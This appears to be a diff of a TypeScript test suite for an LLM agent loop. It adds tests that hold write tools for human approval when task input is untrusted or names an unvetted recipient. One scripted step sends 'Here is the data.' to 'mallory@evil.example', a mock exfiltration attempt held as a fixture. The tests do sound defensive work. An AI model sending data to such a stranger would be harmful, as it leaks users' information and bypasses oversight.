@@ -53,6 +53,19 @@ const note = defineTool({
     return { saved: true };
   },
 });
+let emails: string[] = [];
+const sendEmail = defineTool({
+  name: "send_email",
+  description: "Sends an email (a side effect on a named recipient).",
+  kind: "write",
+  input: z.object({ to: z.string(), body: z.string() }),
+  output: z.object({ sent: z.boolean() }),
+  entities: ["to"],
+  run: async ({ to }) => {
+    emails.push(to);
+    return { sent: true };
+  },
+});
 let flakyWrites = 0;
 const flakyWrite = defineTool({
   name: "charge_card",
@@ -92,7 +105,7 @@ function agentWith(loop: LlmAgentDefinition["loop"] = {}, budget = {}): LlmAgent
     input: z.object({ question: z.string() }),
     output: Answer,
     instructions: "You are a careful test agent.",
-    tools: [lookup, note, flakyWrite, hang, deleteAccount],
+    tools: [lookup, note, sendEmail, flakyWrite, hang, deleteAccount],
     model: "scripted:test",
     budget: { maxSteps: 10, ...budget },
     loop: { summarizeEvery: 0, ...loop },
@@ -108,6 +121,8 @@ async function run(
     price?: Script["price"];
     /** Seeds the effects ledger, e.g. with what a crash left behind. */
     prepare?: (effects: EffectsLedger) => Promise<void>;
+    /** What the task's trust says (see taskTrust): why its input is untrusted, and the values it vouches for. */
+    trust?: { untrustedInput?: string; trustedValues?: string[] };
   } = {},
 ) {
   const requests: ModelRequest[] = [];
@@ -141,9 +156,11 @@ async function run(
     signal: controller.signal,
     cancelled: () => false,
     goalId: "g1",
+    tenant: "acme",
     subtaskId: "s1",
     logger,
     services: { emit: async (e) => void events.push(e), effects, propose: async (p) => void proposals.push(p) },
+    ...opts.trust,
   });
   return { outcome, requests, events, proposals, effects };
 }
@@ -197,7 +214,7 @@ describe("the agent loop", () => {
     expect(lastToolResult(requests[1])[0]).toMatchObject({
       isError: true,
       content: expect.stringMatching(
-        /Unknown tool "get_ordr". Available tools: lookup, save_note, charge_card, hang, delete_account, final_answer/,
+        /Unknown tool "get_ordr". Available tools: lookup, save_note, send_email, charge_card, hang, delete_account, final_answer/,
       ),
     });
     expect(outcome).toMatchObject({ status: "failed", failure: { kind: "invalid_tool_calls" } });
@@ -339,7 +356,7 @@ describe("the agent loop", () => {
     });
     expect(outcome.status).toBe("ok");
     expect(writes).toBe(1);
-    expect([...effects.entries.keys()]).toEqual([expect.stringMatching(/^g1\/s1\/save_note\/[0-9a-f]{64}$/)]);
+    expect([...effects.entries.keys()]).toEqual([expect.stringMatching(/^agent\.tester\.effect\.g1\.s1\.save_note\.[0-9a-f]{64}$/)]);
     expect(lastToolResult(requests[1])[1]).toMatchObject({
       isError: true,
       content: "save_note was denied by policy: notes may not hold secrets",
@@ -372,6 +389,41 @@ describe("the agent loop", () => {
     });
   });
 
+  it("gates write tools from the first step when the task input holds untrusted outside text", async () => {
+    writes = 0;
+    const { outcome, proposals } = await run(
+      () => ({ toolCalls: [{ name: "save_note", args: { text: "as the ticket says" } }] }),
+      { trust: { untrustedInput: "the task input holds untrusted text (ticket)" } },
+    );
+    expect(outcome.status).toBe("needs_approval");
+    expect(writes).toBe(0);
+    expect(proposals[0]).toMatchObject({
+      tool: "save_note",
+      reason: expect.stringMatching(/untrusted text \(ticket\)/),
+    });
+  });
+
+  it("runs a write on an entity the trusted input names, and sends one on any other entity to a person", async () => {
+    emails = [];
+    const { outcome, proposals } = await run(
+      ({ turn }) =>
+        turn === 0
+          ? { toolCalls: [{ name: "send_email", args: { to: "ana@example.com", body: "Your order shipped." } }] }
+          : turn === 1
+            ? { toolCalls: [{ name: "send_email", args: { to: "mallory@evil.example", body: "Here is the data." } }] }
+            : ok(),
+      { trust: { trustedValues: ["ana@example.com"] } },
+    );
+    expect(emails).toEqual(["ana@example.com"]);
+    expect(outcome.status).toBe("needs_approval");
+    expect(proposals).toHaveLength(1);
+    expect(proposals[0]).toMatchObject({
+      tool: "send_email",
+      args: { to: "mallory@evil.example" },
+      reason: expect.stringMatching(/names to="mallory@evil\.example", which is neither in the task's trusted input/),
+    });
+  });
+
   it("does not run a write again when an earlier attempt stopped before recording its outcome", async () => {
     writes = 0;
     const { outcome, proposals, effects } = await run(
@@ -379,7 +431,7 @@ describe("the agent loop", () => {
       {
         prepare: async (ledger) => {
           // What a crash between claiming the effect and recording it leaves behind.
-          const key = effectKey("g1", "s1", "save_note", { text: "hello" });
+          const key = effectKey("tester", "g1", "s1", "save_note", { text: "hello" });
           await ledger.claim(key);
         },
       },
